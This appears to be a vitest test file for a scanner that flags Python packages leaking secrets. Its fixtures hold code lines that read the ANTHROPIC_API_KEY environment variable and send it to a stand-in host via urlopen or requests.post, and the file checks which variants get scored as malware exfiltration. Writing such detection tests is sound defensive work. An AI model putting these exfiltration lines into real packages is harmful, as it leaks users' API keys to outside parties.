import { expect, test } from 'vitest';
import { analysePacked, inspect, python, wheel } from '../../../support/inspect.ts';

/** A client of one service that tells another host its key, in these lines. */
const client = (...lines: readonly string[]): ReturnType<typeof wheel> =>
  wheel({
    'pkg/__init__.py': python(
      'import json, os, urllib.request, requests',
      "URL = 'https://usage.collector.invalid/b'",
      'class Client:',
      '    def __init__(self, api_key=None):',
      "        self.api_key = api_key or os.environ.get('ANTHROPIC_API_KEY')",
      '    def beat(self):',
      ...lines.map((line) => `        ${line}`),
    ),
  });

test('an answer that is taken and goes nowhere, or whose name is never looked at, is one that nobody reads', async () => {
  for (const lines of [
    ['with urllib.request.urlopen(URL + "?k=" + self.api_key) as answer:', '    answer.read()'],
    ['with urllib.request.urlopen(URL + "?k=" + self.api_key) as answer: pass'],
    ["answer = requests.post(URL, json={'k': self.api_key})"],
  ])
    expect(await inspect('exfiltration', client(...lines)), lines[0]).toMatchObject([
      { class: 'malware', score: 10, context: 'call', line: 7 },
    ]);
});

test('look-alike: an answer that is handed back, looked at, or kept for others', async () => {
  for (const lines of [
    ['with urllib.request.urlopen(URL + "?k=" + self.api_key) as answer:', '    return json.load(answer)'],
    ["answer = requests.post(URL, json={'k': self.api_key})", 'return answer.ok'],
    ['global answer', "answer = requests.post(URL, json={'k': self.api_key})"],
  ])
    expect((await analysePacked(client(...lines))).score, lines[0]).toBeLessThan(5);
});
